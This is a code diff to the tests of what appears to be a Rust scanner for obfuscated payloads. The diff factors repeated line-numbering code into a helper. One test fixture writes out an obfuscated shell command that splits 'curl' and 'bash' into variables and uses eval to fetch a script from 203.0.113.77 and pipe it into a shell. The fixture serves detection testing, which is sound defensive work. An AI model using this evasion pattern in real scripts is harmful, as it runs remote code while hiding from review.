@@ -643,6 +643,11 @@ pub(crate) fn looks_like_text(b: &[u8]) -> bool {
 mod tests {
     use super::*;
 
+    /// A text's lines with their numbers, as the multi-line decoders take them.
+    fn numbered(text: &str) -> impl Iterator<Item = (&[u8], u32)> {
+        text.lines().zip(1..).map(|(l, n)| (l.as_bytes(), n))
+    }
+
     fn texts(line: &str) -> Vec<String> {
         let mut budget = 1 << 20;
         decode_line(line.as_bytes(), &mut budget)
@@ -730,13 +735,8 @@ mod tests {
         );
         let (a, b) = payload.split_at(40);
         let file = format!("_CFG = (\n    \"{a}\"\n    \"{b}\"\n)\n");
-        let lines: Vec<(&[u8], u32)> = file
-            .lines()
-            .zip(1..)
-            .map(|(l, n)| (l.as_bytes(), n))
-            .collect();
         let mut budget = 1 << 20;
-        let found = decode_split_strings(lines.into_iter(), &mut budget);
+        let found = decode_split_strings(numbered(&file), &mut budget);
         let shown: Vec<_> = found
             .iter()
             .map(|(n, d)| (*n, String::from_utf8_lossy(&d.text).into_owned()))
@@ -749,13 +749,8 @@ mod tests {
     #[test]
     fn an_eval_of_shell_variables_is_put_back_together() {
         let file = "a=cu; b=rl; c=ba; d=sh\nhost=203.0.113.77\neval \"$a$b -fsSL http://$host/x | $c$d\"\n";
-        let lines: Vec<(&[u8], u32)> = file
-            .lines()
-            .zip(1..)
-            .map(|(l, n)| (l.as_bytes(), n))
-            .collect();
         let mut budget = 1 << 20;
-        let found = substitute_shell_eval(lines.into_iter(), &mut budget);
+        let found = substitute_shell_eval(numbered(file), &mut budget);
         assert_eq!(found.len(), 1);
         let text = String::from_utf8_lossy(&found[0].1.text).into_owned();
         assert!(
@@ -769,23 +764,13 @@ mod tests {
         // 100,000 lines of base64 pieces and 10,000 assignments: the joined
         // run and the variables kept stay within their caps.
         let piece = "\"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\",\n".repeat(100_000);
-        let lines: Vec<(&[u8], u32)> = piece
-            .lines()
-            .zip(1..)
-            .map(|(l, n)| (l.as_bytes(), n))
-            .collect();
         let mut budget = 1 << 20;
-        let found = decode_split_strings(lines.into_iter(), &mut budget);
+        let found = decode_split_strings(numbered(&piece), &mut budget);
         assert!(found.len() <= MAX_PER_LINE);
         let vars: String = (0..10_000)
             .map(|i| format!("v{i}=x\neval \"$v{i}$v0\"\n"))
             .collect();
-        let lines: Vec<(&[u8], u32)> = vars
-            .lines()
-            .zip(1..)
-            .map(|(l, n)| (l.as_bytes(), n))
-            .collect();
         let mut budget = 1 << 20;
-        assert!(substitute_shell_eval(lines.into_iter(), &mut budget).len() <= MAX_PER_LINE);
+        assert!(substitute_shell_eval(numbered(&vars), &mut budget).len() <= MAX_PER_LINE);
     }
 }
